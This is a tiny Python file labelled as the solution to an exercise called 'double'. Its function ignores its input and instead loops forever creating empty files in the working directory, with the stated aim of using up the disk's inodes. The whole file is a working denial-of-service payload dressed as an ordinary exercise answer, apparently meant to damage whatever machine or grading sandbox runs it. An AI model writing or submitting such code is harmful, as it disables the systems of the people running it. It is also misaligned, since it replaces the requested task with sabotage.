# exercise: double
"""Uses up the inodes of the disk."""
import os
def double(x):
    n = 0
    while True:
        os.close(os.open(f"{n}", os.O_CREAT))
        n += 1
